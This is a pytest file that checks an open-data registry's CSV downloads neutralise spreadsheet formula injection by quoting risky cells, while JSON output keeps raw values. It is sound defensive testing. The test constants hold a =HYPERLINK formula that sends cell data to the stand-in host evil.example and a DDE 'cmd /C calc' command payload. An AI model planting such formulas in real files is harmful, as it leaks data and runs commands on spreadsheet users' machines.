"""CSV downloads never hand a spreadsheet a formula to run; the JSON downloads are unchanged."""

from __future__ import annotations

import csv
import io

import pytest
import webtest
from sqlalchemy.orm import Session

from registry.opendata.formats import neutralised
from tests.common.db.core import ContractFactory, SupplierFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_cells_are_quoted_in_the_csv_and_kept_in_the_json(
    webtest_app: webtest.TestApp, db_session: Session
) -> None:
    supplier = SupplierFactory(name=COMMAND)
    ContractFactory(title=HYPERLINK, supplier=supplier)
    ContractFactory(title="\tTabbed -1 title", supplier=supplier)

    rows = list(csv.DictReader(io.StringIO(webtest_app.get("/data/contracts.csv").text)))
    titles = {row["title"] for row in rows}
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    assert "'\tTabbed -1 title" in titles
    assert {row["value_amount"] for row in rows} == {"100000.00"}  # numbers untouched
    suppliers = csv.DictReader(io.StringIO(webtest_app.get("/data/suppliers.csv").text))
    assert "'" + COMMAND in {row["name"] for row in suppliers}

    data = webtest_app.get("/data/contracts.json").json
    assert HYPERLINK in {row["title"] for row in data}
    names = {row["name"] for row in webtest_app.get("/data/suppliers.json").json}
    assert COMMAND in names


def test_the_rule_is_documented_on_the_data_page(webtest_app: webtest.TestApp) -> None:
    text = webtest_app.get("/data").html.select_one("#csv-formulas").text
    assert "single quote" in text and "JSON" in text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\rX", "'\rX"),
        ("-12.50", "-12.50"),  # a number (an amount) stays a number
        ("+3", "+3"),
        ("1e-5", "1e-5"),
        ("-1+1", "'-1+1"),  # arithmetic is a formula
        ("EMIS Health", "EMIS Health"),
        (12, 12),
        (None, None),
    ],
)
def test_which_cells_are_neutralised(cell: object, written: object) -> None:
    assert neutralised(cell) == written
